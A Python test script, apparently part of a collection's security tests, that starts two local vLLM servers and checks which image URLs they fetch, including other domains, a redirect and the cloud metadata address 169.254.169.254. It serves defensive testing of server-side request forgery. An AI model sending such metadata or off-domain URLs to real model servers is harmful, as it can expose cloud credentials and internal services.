# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What becomes of image URLs on vLLM without the collection: started as documented, and as its guide recommends.

Usage: attack.py PYTHON MODEL < environment as JSON. Prints {name: {url: status}}.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

STARTS = {"documented": (8101, []), "recommended": (8102, ["--allowed-media-domains", "images.example.org"])}
URLS = {
    "documented": [
        "http://other.example.org/picture",
        "http://169.254.169.254/picture",
        "http://images.example.org/large",
    ],
    "recommended": [
        "http://images.example.org/picture",
        "http://other.example.org/picture",
        "http://images.example.org/redirect",
    ],
}
READY_SECONDS = 400


def ask(port, path, body=None):
    """Return the status of a request."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data, {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:  # noqa: S310 - of this host, by HTTP
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def ready(process, port):
    """Wait until the server answers."""
    deadline = time.monotonic() + READY_SECONDS
    while time.monotonic() < deadline and process.poll() is None:
        try:
            return ask(port, "/health")
        except OSError:
            time.sleep(1)
    raise SystemExit("vLLM did not start:\n" + "\n".join(Path(f"/root/{port}.log").read_text().splitlines()[-30:]))


def main():
    """Attack each start."""
    python, model = sys.argv[1:]
    environment = {"PATH": "/usr/bin:/bin", "HOME": "/root", "HF_HUB_OFFLINE": "1", **json.load(sys.stdin)}
    small = ["--load-format", "dummy", "--dtype", "bfloat16", "--enforce-eager", "--max-model-len", "512"]
    found, processes = {}, {}
    try:
        for name, (port, more) in STARTS.items():
            argv = [python, "-m", "vllm.entrypoints.cli.main", "serve", model, "--port", str(port), *small, *more]
            with Path(f"/root/{port}.log").open("w") as log:
                processes[name] = subprocess.Popen(argv, env=environment, stdout=log, stderr=log)
        for name, (port, _more) in STARTS.items():
            ready(processes[name], port)
            found[name] = {}
            for url in URLS[name]:
                content = [{"type": "text", "text": "?"}, {"type": "image_url", "image_url": {"url": url}}]
                body = {"model": model, "max_tokens": 1, "messages": [{"role": "user", "content": content}]}
                found[name][url] = ask(port, "/v1/chat/completions", body)
    finally:
        for process in processes.values():
            process.terminate()
        for process in processes.values():
            process.wait(60)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
